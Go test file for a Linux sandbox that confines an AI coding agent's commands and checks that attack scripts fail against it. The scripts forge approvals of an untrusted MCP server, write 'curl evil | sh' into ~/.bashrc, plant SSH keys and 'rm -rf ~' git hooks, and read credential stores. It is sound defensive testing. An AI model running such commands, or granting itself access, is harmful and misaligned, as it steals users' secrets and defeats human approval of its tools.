//go:build linux

package sandbox_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"maps"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/piagent/piagent/internal/gate"
	"github.com/piagent/piagent/internal/registry"
	"github.com/piagent/piagent/internal/sandbox"
	"github.com/piagent/piagent/internal/testenv"
)

var piagentBin, leanBin, attackBin, faultBin string

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "piagent-sandbox-bin-")
	if err != nil {
		panic(err)
	}
	piagentBin, leanBin = filepath.Join(dir, "piagent"), filepath.Join(dir, "piagent-sandbox")
	out, err := exec.Command("go", "build", "-o", dir+string(filepath.Separator), "github.com/piagent/piagent/cmd/piagent", "github.com/piagent/piagent/cmd/piagent-mcp", "github.com/piagent/piagent/cmd/piagent-sandbox", "github.com/piagent/piagent/cmd/piagent-netproxy").CombinedOutput()
	if err != nil {
		fmt.Fprintf(os.Stderr, "build piagent: %v\n%s", err, out)
		os.Exit(1)
	}
	// The system-level attacks' own program, and piagent built with fault
	// injection (the sandboxfault tag; a release build has none).
	attackBin, faultBin = filepath.Join(dir, "attack"), filepath.Join(dir, "fault", "piagent")
	for _, b := range [][]string{
		{"build", "-o", attackBin, "./testdata/attack"},
		{"build", "-tags", "sandboxfault", "-o", faultBin, "github.com/piagent/piagent/cmd/piagent"},
		// its proxy, beside it as the install puts it
		{"build", "-o", filepath.Join(dir, "fault", "piagent-netproxy"), "github.com/piagent/piagent/cmd/piagent-netproxy"},
	} {
		if out, err := exec.Command("go", b...).CombinedOutput(); err != nil {
			fmt.Fprintf(os.Stderr, "go %v: %v\n%s", b, err, out)
			os.Exit(1)
		}
	}
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

// needSandbox skips where this machine cannot confine; the project's own
// machines (and CI, as root and as an ordinary user) can, so there the
// attacks always run, namespaces included.
func needSandbox(t *testing.T) sandbox.Status {
	t.Helper()
	st := probed()
	if st.Mechanism == "" {
		if os.Getenv("CI") != "" {
			t.Fatalf("CI must run the sandbox attacks: %s", st.Missing)
		}
		t.Skip("no sandbox here: " + st.Missing)
	}
	if st.Namespaces == "" && os.Getenv("CI") != "" {
		t.Fatalf("CI must run the sandbox attacks with namespaces, as root and as an ordinary user: %s", st.NamespaceMissing)
	}
	return st
}

// needNamespaces skips (fails, in CI) where no namespace can be made.
func needNamespaces(t *testing.T) sandbox.Status {
	t.Helper()
	st := needSandbox(t)
	if st.Namespaces == "" {
		t.Skip("no namespaces here: " + st.NamespaceMissing)
	}
	return st
}

var probed = sync.OnceValue(sandbox.Probe)

type world struct {
	root, home, proj, forge string
	env                     []string
}

// newWorld is a fake home, inside the temporary folder (so every registered
// file lies inside a writable folder and only the mount namespace protects
// it), with a repository server waiting for approval.
func newWorld(t *testing.T) *world {
	t.Helper()
	root := t.TempDir()
	w := &world{root: root, home: filepath.Join(root, "home"), proj: filepath.Join(root, "proj"), forge: filepath.Join(root, "forge")}
	for _, d := range []string{filepath.Join(w.home, ".pi", "agent", "extensions"), registry.OwnDir(w.home), filepath.Join(w.home, ".config", "mcp"), filepath.Join(w.proj, ".git", "hooks"), filepath.Join(w.proj, ".pi"), w.forge, filepath.Join(w.forge, "fakepi")} {
		must(t, os.MkdirAll(d, 0o755))
	}
	write(t, filepath.Join(w.proj, ".mcp.json"), `{"mcpServers":{"evil":{"command":"node","args":["evil.js"]}}}`)
	write(t, filepath.Join(w.proj, "evil.js"), `// evil`)
	write(t, filepath.Join(w.proj, ".git", "config"), "[core]\n")
	write(t, filepath.Join(w.proj, ".env"), "TOKEN=s3cr3t-value\n")
	write(t, filepath.Join(w.home, ".config", "mcp", "mcp.json"), `{"mcpServers":{}}`)
	write(t, filepath.Join(w.home, ".pi", "agent", "settings.json"), `{}`)
	write(t, filepath.Join(w.home, ".pi", "agent", "auth.json"), `{"anthropic":{"key":"sk-ant-secret"}}`)
	write(t, filepath.Join(w.proj, ".git", "info", "exclude"), "# excludes\n")
	write(t, filepath.Join(w.proj, ".git", "modules", "sub", "HEAD"), "ref: refs/heads/main\n")
	write(t, filepath.Join(w.proj, ".git", "modules", "sub", "config"), "[core]\n")
	must(t, os.MkdirAll(filepath.Join(w.proj, ".git", "modules", "sub", "hooks"), 0o755))
	write(t, filepath.Join(w.home, ".bashrc"), "# rc\n")
	write(t, filepath.Join(w.home, ".ssh", "id_ed25519"), "PRIVATE KEY\n")
	must(t, os.Chmod(filepath.Join(w.home, ".ssh", "id_ed25519"), 0o600))
	w.env = []string{"HOME=" + w.home, "PATH=" + filepath.Dir(piagentBin) + ":" + os.Getenv("PATH"), "TMPDIR=" + os.TempDir()}
	// A forged store approving evil, made by approving under another home:
	// all it needs is the digest, which get prints.
	g := w.gate(t)
	if s, _ := g.Server("evil"); s == nil || s.State != gate.PendingApproval {
		t.Fatalf("evil: %+v", s)
	}
	forgeHome := filepath.Join(root, "forgehome")
	approve := exec.Command(filepath.Join(filepath.Dir(piagentBin), "piagent-mcp"), "approve", "evil", "--yes")
	approve.Dir, approve.Env = w.proj, []string{"HOME=" + forgeHome, "PATH=" + os.Getenv("PATH")}
	if out, err := approve.CombinedOutput(); err != nil {
		t.Fatalf("forging: %v\n%s", err, out)
	}
	forged, err := os.ReadFile(filepath.Join(forgeHome, ".pi", "piagent-mcp-approvals.json"))
	must(t, err)
	os.RemoveAll(forgeHome)
	write(t, filepath.Join(w.forge, "piagent-mcp-approvals.json"), string(forged))
	write(t, filepath.Join(w.forge, "fakepi", "piagent-mcp-approvals.json"), string(forged))
	write(t, filepath.Join(w.forge, "mcp.json"), `{"mcpServers":{"planted":{"command":"sh","args":["-c","id"]}}}`)
	write(t, filepath.Join(w.forge, "x.tar"), "")
	return w
}

func (w *world) gate(t *testing.T) *gate.Gate {
	t.Helper()
	g, err := gate.Load(gate.Options{Home: w.home, Cwd: w.proj})
	must(t, err)
	return g
}

// snapshot hashes every file beneath home (registered or not: ~/.bashrc
// runs at the person's next shell) and the project's registered folders,
// so a change anywhere there is seen.
//
// Left out: the gate's tree-digest cache, which this test's own gate loads
// write (evil.js pins the project's files, issue 38 item 6) once their
// stamps settle. Its folder is read-only to a command like every other in
// ~/.pi/piagent, which the attacks on the mode store and the approvals show.
func (w *world) snapshot(t *testing.T) map[string]string {
	t.Helper()
	out := map[string]string{}
	treeCache := gate.TreeCachePath(w.home)
	roots := []string{w.home}
	for _, e := range w.gate(t).Registry(nil, nil) {
		if strings.HasPrefix(e.Path, w.root) {
			roots = append(roots, e.Path)
		}
	}
	for _, root := range roots {
		filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
			if err != nil || p == treeCache {
				return nil
			}
			if fi.Mode().IsRegular() {
				data, _ := os.ReadFile(p)
				out[p] = fmt.Sprintf("%x", sha256.Sum256(data))
			} else {
				out[p] = fi.Mode().String()
			}
			return nil
		})
		if _, err := os.Lstat(root); err != nil {
			out[root] = "absent"
		}
	}
	return out
}

// testVars are the variables the attack scripts name: the attack program
// ($A) and the forged files ($F). The sandbox's environment is an
// allow-list, so they are passed by name (--keep-env); without that, "$A"
// is empty under the sandbox and an attack through it could never work,
// whatever the sandbox did (issue 41: TestSeams' attacks were vacuous).
const testVars = "A,F"

// run runs a bash command line under `piagent-sandbox exec` in the project:
// the small binary the extension runs when it is installed. (The seams
// tests, the server grants and the benchmarks run `piagent sandbox exec`.)
func (w *world) run(t *testing.T, script string) (string, error) {
	t.Helper()
	cmd := exec.Command(leanBin, "exec", "--keep-env", testVars, "--", "/bin/bash", "-c", script)
	cmd.Dir, cmd.Env = w.proj, w.env
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	return out.String(), err
}

// homeAttacks write beneath the home, outside every folder a command may
// write: the approval store and the rest of ~/.pi, the user's MCP layer,
// and files that are not registered but run at the person's next shell or
// login. Every one must leave every file there byte-identical, with
// namespaces (TestAttacksUnderSandbox) and under Landlock alone
// (TestHomeAttacksUnderLandlockAlone).
var homeAttacks = map[string]string{
	"cp into ~/.pi":          `cp $F/piagent-mcp-approvals.json ~/.pi/`,
	"cp -r into ~/.pi":       `cp -r $F/fakepi/. ~/.pi/`,
	"swap ~/.pi":             `mv ~/.pi ~/.pi.old && mv $F/fakepi ~/.pi`,
	"cp -t ~/.pi":            `cp -t ~/.pi $F/piagent-mcp-approvals.json`,
	"plant a user server":    `cp $F/mcp.json ~/.config/mcp/`,
	"python approve":         `python3 -c "import subprocess;subprocess.run(['pia'+'gent-mcp','approve','evil','--yes'])"`,
	"alias approve":          "shopt -s expand_aliases\nalias p=piagent-mcp\np approve evil --yes",
	"script approve":         `printf 'piagent-mcp approve evil --yes\n' > run.sh && sh run.sh`,
	"python write":           `python3 -c "import shutil,os;shutil.copy('$F/piagent-mcp-approvals.json', os.path.expanduser('~/.pi/piagent-mcp-approvals.json'))"`,
	"perl write":             `perl -e 'open(my $f, ">", "$ENV{HOME}/.pi/piagent-mcp-approvals.json") or die $!; print $f "{}"'`,
	"node write":             `node -e 'require("fs").copyFileSync(process.env.F+"/piagent-mcp-approvals.json", process.env.HOME+"/.pi/piagent-mcp-approvals.json")'`,
	"dd":                     `dd if=$F/piagent-mcp-approvals.json of=$HOME/.pi/piagent-mcp-approvals.json`,
	"tee":                    `tee ~/.pi/piagent-mcp-approvals.json < $F/piagent-mcp-approvals.json`,
	"install":                `install -m 600 $F/piagent-mcp-approvals.json ~/.pi/piagent-mcp-approvals.json`,
	"tar -x":                 `tar -C $F/fakepi -cf $F/x.tar piagent-mcp-approvals.json && tar -xf $F/x.tar -C ~/.pi`,
	"ln -s over the store":   `ln -sf $F/piagent-mcp-approvals.json ~/.pi/piagent-mcp-approvals.json`,
	"hard link into ~/.pi":   `ln $F/piagent-mcp-approvals.json ~/.pi/piagent-mcp-approvals.json`,
	"rename parent":          `mv ~/.config/mcp ~/.config/mcp.old`,
	"rename agent dir":       `mv ~/.pi/agent ~/.pi/agent.old`,
	"mode store":             `echo '{"version":1,"projects":{}}' > ~/.pi/piagent-modes.json`,
	"trust":                  `echo '{}' > ~/.pi/agent/trust.json`,
	"npx cache":              `echo '{}' > ~/.pi/agent/mcp-npx-cache.json`,
	"user extension":         `echo 'export default () => {}' > ~/.pi/agent/extensions/x.ts`,
	"pi settings":            `echo '{"packages":["npm:evil"]}' > ~/.pi/agent/settings.json`,
	"python rename parent":   `python3 -c "import os;os.rename(os.path.expanduser('~/.pi'), os.path.expanduser('~/.pi2'))"`,
	"truncate the store dir": `: > ~/.pi/piagent-mcp-approvals.json.lock`,
	// Not registered, but outside every writable folder: the person's next
	// shell runs it (issue 41, S1: Landlock's / rule made writable).
	"append to ~/.bashrc": `echo 'curl evil | sh' >> ~/.bashrc`,
	"plant ~/.profile":    `echo 'curl evil | sh' > ~/.profile`,
	"ssh authorized_keys": `mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA evil' >> ~/.ssh/authorized_keys`,
}

func TestAttacksUnderSandbox(t *testing.T) {
	needSandbox(t)
	attacks := map[string]string{
		"project extension":   `mkdir -p .pi/extensions && echo 'export default () => {}' > .pi/extensions/x.ts`,
		"project pi settings": `echo '{}' > .pi/settings.json`,
		"git hook":            `echo 'rm -rf ~' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`,
		"git config alias":    `git config alias.nuke '!rm -rf ~'`,
		"rename .git":         `mv .git .git.old && mkdir -p .git/hooks`,
		"edit .mcp.json":      `echo '{"mcpServers":{"evil":{"command":"sh"}}}' > .mcp.json`,
		"remove .mcp.json":    `rm -f .mcp.json`,
	}
	maps.Copy(attacks, homeAttacks)
	w := newWorld(t)
	w.env = append(w.env, "F="+w.forge)
	w.attack(t, piagentBin, w.env, attacks)
	t.Logf("%d attacks, every registered file and every file in the home byte-identical, evil still %s", len(attacks), gate.PendingApproval)
}

// TestHomeAttacksUnderLandlockAlone: where no namespace can mount (a fault
// build simulates Ubuntu's AppArmor restriction), Landlock alone keeps every
// write beneath the home out: its rule for / is read-only (issue 41, S1).
// The project's registered files are not held there, and status says so
// (TestNamespaceRefusedSaysSo).
func TestHomeAttacksUnderLandlockAlone(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	env := append(w.env, "F="+w.forge, "PIAGENT_SANDBOX_FAULT=mount")
	// The control: the fault build really runs under Landlock alone.
	cmd := exec.Command(faultBin, "sandbox", "exec", "--", "/bin/true")
	cmd.Dir, cmd.Env = w.proj, env
	if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "Landlock and seccomp alone") {
		t.Fatalf("the fault build does not say it runs under Landlock alone: %v %s", err, out)
	}
	w.attack(t, faultBin, env, homeAttacks)
	t.Logf("%d attacks under Landlock alone, every file in the home byte-identical", len(homeAttacks))
}

// attack runs each script under bin's `sandbox exec` in the project and
// requires every file beneath home and the registered folders unchanged,
// nothing new there, evil still pending and no server planted.
func (w *world) attack(t *testing.T, bin string, env []string, attacks map[string]string) {
	t.Helper()
	before := w.snapshot(t)
	for _, name := range slices.Sorted(maps.Keys(attacks)) {
		cmd := exec.Command(bin, "sandbox", "exec", "--keep-env", testVars, "--", "/bin/bash", "-c", attacks[name])
		cmd.Dir, cmd.Env = w.proj, env
		outb, _ := cmd.CombinedOutput()
		out := string(outb)
		after := w.snapshot(t)
		for p, h := range before {
			if after[p] != h {
				t.Errorf("%s: %s changed (%s -> %s)\n%s", name, p, h, after[p], out)
			}
		}
		for p := range after {
			if _, ok := before[p]; !ok {
				t.Errorf("%s: %s appeared\n%s", name, p, out)
			}
		}
		if s, _ := w.gate(t).Server("evil"); s == nil || s.State != gate.PendingApproval {
			t.Errorf("%s: evil is %v\n%s", name, s, out)
		}
		if _, ok := w.gate(t).Server("planted"); ok {
			t.Errorf("%s: a server was planted", name)
		}
		before = after
	}
}

// TestPycacheOutOfProject: python under the sandbox keeps its compiled
// modules in the private folder, not in __pycache__ beside the source, so
// a server's run adds no file to the package its approval pins (issue 38,
// item 6). Control: the same import outside the sandbox writes __pycache__.
func TestPycacheOutOfProject(t *testing.T) {
	needSandbox(t)
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("no python3")
	}
	w := newWorld(t)
	write(t, filepath.Join(w.proj, "pkg", "helpers.py"), "X = 1\n")
	out, err := w.run(t, `cd pkg && python3 -c 'import helpers; print(helpers.X)'`)
	if err != nil || !strings.Contains(out, "1") {
		t.Fatalf("err %v, output %q", err, out)
	}
	if _, err := os.Stat(filepath.Join(w.proj, "pkg", "__pycache__")); err == nil {
		t.Fatal("python under the sandbox wrote __pycache__ into the project")
	}
	cmd := exec.Command("python3", "-c", "import helpers")
	cmd.Dir, cmd.Env = filepath.Join(w.proj, "pkg"), []string{"HOME=" + w.home, "PATH=" + os.Getenv("PATH")}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("control: %v %s", err, out)
	}
	if _, err := os.Stat(filepath.Join(w.proj, "pkg", "__pycache__")); err != nil {
		t.Fatalf("control: python outside the sandbox wrote no __pycache__ (%v): the check above proves nothing", err)
	}
}

// TestSecretsHidden: the project's .env and Pi's auth.json read as empty
// inside the sandbox when a mount namespace is available.
func TestSecretsHidden(t *testing.T) {
	needNamespaces(t)
	w := newWorld(t)
	out, err := w.run(t, `cat .env; cat ~/.pi/agent/auth.json; echo done`)
	if err != nil || strings.Contains(out, "s3cr3t") || strings.Contains(out, "sk-ant") || !strings.Contains(out, "done") {
		t.Fatalf("err %v, output %q", err, out)
	}
}

// TestAgentSecretStoresHidden: the agent's commands read none of the
// home's secret stores, whatever way they compute the path (python, a
// glob, a link the command makes, a link the store is), and the files
// beside them that the policy leaves readable (git's config, fish's) stay
// readable; a person's grant (piagent-mcp grant --agent --read) opens one
// store in this project, and the agent cannot grant it itself. Unconfined,
// the same command reads every one (the control).
func TestAgentSecretStoresHidden(t *testing.T) {
	needNamespaces(t)
	w := newWorld(t)
	stores := map[string]string{
		".ssh/id_ed25519":         "", // newWorld's "PRIVATE KEY"
		".aws/credentials":        "[default]\naws_secret_access_key=AWS-SECRET-1\n",
		".git-credentials":        "https://u:GIT-SECRET-2@example.com\n",
		".kube/config":            "users:\n- user: {token: KUBE-SECRET-3}\n",
		".config/gh/hosts.yml":    "github.com:\n  oauth_token: GH-SECRET-4\n",
		".config/git/credentials": "https://u:GIT-SECRET-5@example.com\n",
		".bash_history":           "export TOKEN=HIST-SECRET-6\n",
	}
	for rel, data := range stores {
		if data != "" {
			write(t, filepath.Join(w.home, rel), data)
		}
	}
	// a dotfiles manager's link: the store lives elsewhere
	dotfiles := filepath.Join(w.root, "dotfiles")
	write(t, filepath.Join(dotfiles, "netrc"), "machine example.com password NETRC-SECRET-7\n")
	must(t, os.Symlink(filepath.Join(dotfiles, "netrc"), filepath.Join(w.home, ".netrc")))
	write(t, filepath.Join(w.home, ".config", "git", "config"), "[user]\n\tname = READABLE-GIT-CONFIG\n")
	write(t, filepath.Join(w.home, ".gitconfig"), "[alias]\n\tst = READABLE-GITCONFIG\n")
	secrets := []string{"PRIVATE KEY", "AWS-SECRET-1", "GIT-SECRET-2", "KUBE-SECRET-3", "GH-SECRET-4", "GIT-SECRET-5", "HIST-SECRET-6", "NETRC-SECRET-7"}
	script := `python3 -c "
import os,glob
h=os.environ['HOME']
for p in ['.ss'+'h/id_ed25519','.aws/credentials','.git-credentials','.kube/config','.config/gh/hosts.yml','.config/git/credentials','.bash_history','.netrc']:
    try: print(open(os.path.join(h,p)).read())
    except Exception as e: print('refused', p, type(e).__name__)
"
cat ~/.k*/* ~/.s*/* 2>/dev/null
ln -s ~/.aws my-aws && cat my-aws/credentials 2>/dev/null
cat "$(readlink -f ~/.netrc)" 2>/dev/null
cat ~/.config/git/config ~/.gitconfig
echo done`
	control := exec.Command("/bin/bash", "-c", script)
	control.Dir, control.Env = w.proj, w.env
	if out, err := control.CombinedOutput(); err != nil || !containsAll(string(out), secrets) {
		t.Fatalf("control: unconfined, the script reads every store (%v):\n%s", err, out)
	}
	os.Remove(filepath.Join(w.proj, "my-aws"))
	out, err := w.run(t, script)
	if err != nil || !strings.Contains(out, "done") || !strings.Contains(out, "READABLE-GIT-CONFIG") || !strings.Contains(out, "READABLE-GITCONFIG") {
		t.Fatalf("err %v, output %q", err, out)
	}
	for _, s := range secrets {
		if strings.Contains(out, s) {
			t.Errorf("the agent's command read %s:\n%s", s, out)
		}
	}
	// The agent cannot grant itself a store; a person can.
	if out, err := w.run(t, `python3 -c "import subprocess;subprocess.run(['pia'+'gent-mcp','grant','--agent','--read','`+filepath.Join(w.home, ".kube")+`'],check=True)"`); err == nil {
		t.Fatalf("the agent granted itself ~/.kube: %s", out)
	}
	if out, _ := w.run(t, `cat ~/.kube/config; echo done`); strings.Contains(out, "KUBE-SECRET-3") {
		t.Fatalf("~/.kube read after the agent's own grant: %s", out)
	}
	grant := exec.Command(filepath.Join(filepath.Dir(piagentBin), "piagent-mcp"), "grant", "--agent", "--read", "~/.kube")
	grant.Dir, grant.Env = w.proj, w.env
	if out, err := grant.CombinedOutput(); err != nil {
		t.Fatalf("grant: %v\n%s", err, out)
	}
	out, err = w.run(t, `cat ~/.kube/config ~/.aws/credentials; echo done`)
	if err != nil || !strings.Contains(out, "KUBE-SECRET-3") || strings.Contains(out, "AWS-SECRET-1") {
		t.Fatalf("after the grant of ~/.kube alone: %v\n%s", err, out)
	}
	// sandbox status says what is hidden, and how a person opens one
	st := exec.Command(piagentBin, "sandbox", "status")
	st.Dir, st.Env = w.proj, w.env
	o, err := st.CombinedOutput()
	_, hidden, _ := strings.Cut(string(o), "\nhidden:\n")
	if err != nil || !strings.Contains(hidden, filepath.Join(w.home, ".aws", "credentials")+"\n") || strings.Contains(hidden, filepath.Join(w.home, ".kube")+"\n") ||
		!strings.Contains(hidden, "piagent-mcp grant --agent --read PATH") {
		t.Errorf("sandbox status: %v\n%s", err, o)
	}
}

func containsAll(s string, subs []string) bool {
	for _, x := range subs {
		if !strings.Contains(s, x) {
			return false
		}
	}
	return true
}

// TestUnixSocketRefused: a daemon outside the sandbox listening on a Unix
// socket is never reached, so it cannot be asked to do the work.
func TestUnixSocketRefused(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	sock := filepath.Join(t.TempDir(), "d.sock")
	l, err := net.Listen("unix", sock)
	must(t, err)
	defer l.Close()
	var accepted atomic.Int32
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			c.Close()
		}
	}()
	out, err := w.run(t, fmt.Sprintf(`python3 -c "import socket;s=socket.socket(socket.AF_UNIX);s.connect('%s')"`, sock))
	if err == nil || !strings.Contains(out, "ermission") {
		t.Errorf("connect under the sandbox: err %v, output %q", err, out)
	}
	// A positive control: the same connection unconfined is accepted.
	c, err := net.Dial("unix", sock)
	must(t, err)
	c.Close()
	time.Sleep(50 * time.Millisecond)
	if n := accepted.Load(); n != 1 {
		t.Errorf("the daemon accepted %d connections, want only the unconfined one", n)
	}
	// socketpair stays: a pipe-like pair makes no connection outside.
	if out, err := w.run(t, `python3 -c "import socket;a,b=socket.socketpair();a.send(b'x');print(b.recv(1))"`); err != nil {
		t.Errorf("socketpair: %v %s", err, out)
	}
}

// TestKillHelperRefused: a confined command cannot signal a process outside
// its sandbox (the helper). The helper is this test's child, reaped by Wait
// in a goroutine: a kill that got through ends that Wait, which Signal(0) on
// an unreaped child (a zombie still answers it) could never show. The
// control kills the same kind of process unconfined and sees its Wait end.
func TestKillHelperRefused(t *testing.T) {
	if st := needSandbox(t); !st.Scoped {
		t.Skip("Landlock ABI < 6: no signal scoping")
	}
	w := newWorld(t)
	start := func() (*exec.Cmd, chan error) {
		helper := exec.Command("sleep", "600")
		must(t, helper.Start())
		t.Cleanup(func() { helper.Process.Kill() })
		done := make(chan error, 1)
		go func() { done <- helper.Wait() }()
		return helper, done
	}

	control, controlDone := start()
	if out, err := exec.Command("sh", "-c", fmt.Sprintf("kill -9 %d", control.Process.Pid)).CombinedOutput(); err != nil {
		t.Fatalf("control: kill unconfined failed: %v %s", err, out)
	}
	select {
	case <-controlDone:
	case <-time.After(testenv.Slow(10 * time.Second)):
		t.Fatal("control: the unconfined kill did not end the process; this test cannot tell a refused kill")
	}

	helper, done := start()
	out, err := w.run(t, fmt.Sprintf("kill -9 %d", helper.Process.Pid))
	if err == nil {
		t.Errorf("kill succeeded: %s", out)
	}
	// A SIGKILL that got through has ended the helper by the time kill
	// returns; two seconds are plenty for Wait to see it.
	select {
	case err := <-done:
		t.Errorf("the helper is gone: %v (sandboxed kill: %s)", err, out)
	case <-time.After(testenv.Slow(2 * time.Second)):
	}
}

// TestDevelopmentWorks: what development needs still works under the
// profile: writing the project and TMPDIR, git commit, the exit status.
func TestDevelopmentWorks(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	out, err := w.run(t, `set -e
echo hi > notes.txt
t=$(mktemp) && echo x > "$t" && test -s "$t"
case "$TMPDIR" in */piagent-sandbox-*) ;; *) echo "TMPDIR=$TMPDIR"; exit 9;; esac
git -c user.email=a@b -c user.name=a -c init.defaultBranch=main init -q scratch
cd scratch && echo a > a && git add a && git -c user.email=a@b -c user.name=a commit -qm one && git log --oneline | wc -l`)
	if err != nil || strings.TrimSpace(lastLine(out)) != "1" {
		t.Fatalf("err %v: %s", err, out)
	}
	if _, err := os.Stat(filepath.Join(w.proj, "notes.txt")); err != nil {
		t.Error(err)
	}
	_, err = w.run(t, `exit 7`)
	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 7 {
		t.Errorf("exit status: %v", err)
	}
}

// TestGoTestUnderSandbox builds and tests one package of this project under
// the profile, with private caches fed from the user's module cache.
func TestGoTestUnderSandbox(t *testing.T) {
	needSandbox(t)
	if testing.Short() {
		t.Skip("compiles the standard library into a private cache")
	}
	w := newWorld(t)
	root, err := filepath.Abs(filepath.Join("..", ".."))
	must(t, err)
	// The modules it needs, fetched unconfined first: the sandbox reads
	// them from the user's module cache, with the network proxy off.
	list := exec.Command("go", "list", "-deps", "-test", "./internal/digest/...")
	list.Dir = root
	if out, err := list.CombinedOutput(); err != nil {
		t.Fatalf("go list: %v\n%s", err, out)
	}
	cmd := exec.Command(piagentBin, "sandbox", "exec", "--project", root, "--", "go", "test", "-count=1", "./internal/digest/...")
	cmd.Dir = root
	cmd.Env = append(w.env, "GOMODCACHE="+goEnv(t, "GOMODCACHE"), "GOPROXY=off")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("go test under the sandbox: %v\n%s", err, out)
	}
	if !bytes.Contains(out, []byte("ok")) {
		t.Fatalf("%s", out)
	}
}

func goEnv(t *testing.T, k string) string {
	out, err := exec.Command("go", "env", k).Output()
	must(t, err)
	return strings.TrimSpace(string(out))
}

func lastLine(s string) string {
	s = strings.TrimSpace(s)
	if i := strings.LastIndexByte(s, '\n'); i >= 0 {
		return s[i+1:]
	}
	return s
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func write(t *testing.T, p, s string) {
	t.Helper()
	must(t, os.MkdirAll(filepath.Dir(p), 0o755))
	must(t, os.WriteFile(p, []byte(s), 0o644))
}

// BenchmarkExecTrue and BenchmarkSandboxExecTrue measure, in one run, what
// `piagent sandbox exec` adds to starting a command.
func BenchmarkExecTrue(b *testing.B) {
	for b.Loop() {
		if err := exec.Command("/bin/true").Run(); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkSandboxExecTrue(b *testing.B) {
	benchExec(b, piagentBin, "sandbox", "exec", "--", "/bin/true")
}

// BenchmarkLeanExecTrue: the same through piagent-sandbox, which the
// extension and the launcher run when it is installed beside piagent.
func BenchmarkLeanExecTrue(b *testing.B) {
	benchExec(b, leanBin, "exec", "--", "/bin/true")
}

// BenchmarkLeanExecTrueStores: the same from a home holding ten of the
// usual secret stores, each hidden by a mount of its own (the home of
// BenchmarkLeanExecTrue is this machine's).
func BenchmarkLeanExecTrueStores(b *testing.B) {
	if sandbox.Probe().Mechanism == "" {
		b.Skip("no sandbox here")
	}
	home, dir := b.TempDir(), b.TempDir()
	for _, f := range []string{".ssh/id_ed25519", ".aws/credentials", ".git-credentials", ".kube/config", ".docker/config.json",
		".config/gh/hosts.yml", ".gnupg/pubring.kbx", ".bash_history", ".npmrc", ".config/git/credentials"} {
		p := filepath.Join(home, f)
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			b.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("x"), 0o600); err != nil {
			b.Fatal(err)
		}
	}
	env := append(os.Environ(), "HOME="+home)
	for b.Loop() {
		cmd := exec.Command(leanBin, "exec", "--", "/bin/true")
		cmd.Dir, cmd.Env = dir, env
		if err := cmd.Run(); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkLeanNetworkOn, BenchmarkLeanNetworkOff and
// BenchmarkLeanNetworkRegistries measure, in one run and from the same
// fresh home, what "network": "off" (a network namespace and its loopback
// brought up) and "registries", the default (the same, plus the proxy's
// listener made in the namespace, handed out and served) add to a
// command's start.
func BenchmarkLeanNetworkOn(b *testing.B)  { benchNetwork(b, `{"version": 1, "network": "on"}`) }
func BenchmarkLeanNetworkOff(b *testing.B) { benchNetwork(b, `{"version": 1, "network": "off"}`) }
func BenchmarkLeanNetworkRegistries(b *testing.B) {
	benchNetwork(b, `{"version": 1, "network": "registries"}`)
}

func benchNetwork(b *testing.B, policy string) {
	if sandbox.Probe().Mechanism == "" {
		b.Skip("no sandbox here")
	}
	home, dir := b.TempDir(), b.TempDir()
	if policy != "" {
		must(b, os.MkdirAll(filepath.Join(home, ".pi"), 0o700))
		must(b, os.WriteFile(filepath.Join(home, ".pi", "piagent-policy.json"), []byte(policy), 0o600))
	}
	env := []string{"HOME=" + home, "PATH=" + os.Getenv("PATH")}
	for b.Loop() {
		cmd := exec.Command(leanBin, "exec", "--", "/bin/true")
		cmd.Dir, cmd.Env = dir, env
		if out, err := cmd.CombinedOutput(); err != nil {
			b.Fatalf("%v: %s", err, out)
		}
	}
}

// BenchmarkBwrapTrue is bubblewrap's start, the peer, where it is installed.
func BenchmarkBwrapTrue(b *testing.B) {
	bwrap, err := exec.LookPath("bwrap")
	if err != nil {
		b.Skip("bwrap is not installed")
	}
	benchExec(b, bwrap, "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-all", "--die-with-parent", "/bin/true")
}

// BenchmarkFloorLandlockTrue and BenchmarkFloorTwoProcessTrue are the
// floors docs/performance.md sets the sandbox's start against
// (testdata/floor): a Go program that applies a Landlock ruleset and a
// seccomp filter and execs; and two Go processes as the sandbox is made
// (user, mount, PID and network namespaces, / read-only, the folder
// writable, /proc, the same Landlock and seccomp, the command started and
// waited for), with none of piagent's profile.
func BenchmarkFloorLandlockTrue(b *testing.B) {
	benchExec(b, floorBin(b), "landlock", b.TempDir(), "--", "/bin/true")
}

func BenchmarkFloorTwoProcessTrue(b *testing.B) {
	benchExec(b, floorBin(b), "twoproc", b.TempDir(), "--", "/bin/true")
}

var floorOnce = sync.OnceValues(func() (string, error) {
	bin := filepath.Join(filepath.Dir(leanBin), "floor")
	out, err := exec.Command("go", "build", "-o", bin, "./testdata/floor").CombinedOutput()
	if err != nil {
		return "", fmt.Errorf("build the floor: %v\n%s", err, out)
	}
	return bin, nil
})

func floorBin(b *testing.B) string {
	bin, err := floorOnce()
	if err != nil {
		b.Fatal(err)
	}
	return bin
}

// TestFloorConfines holds the floor to what it claims, so that its figures
// are a floor of the same work: as root and as an ordinary user, a write
// outside the folder fails and one inside it succeeds, and the command runs
// in a PID namespace of its own (its PID 1 is the floor's init).
func TestFloorConfines(t *testing.T) {
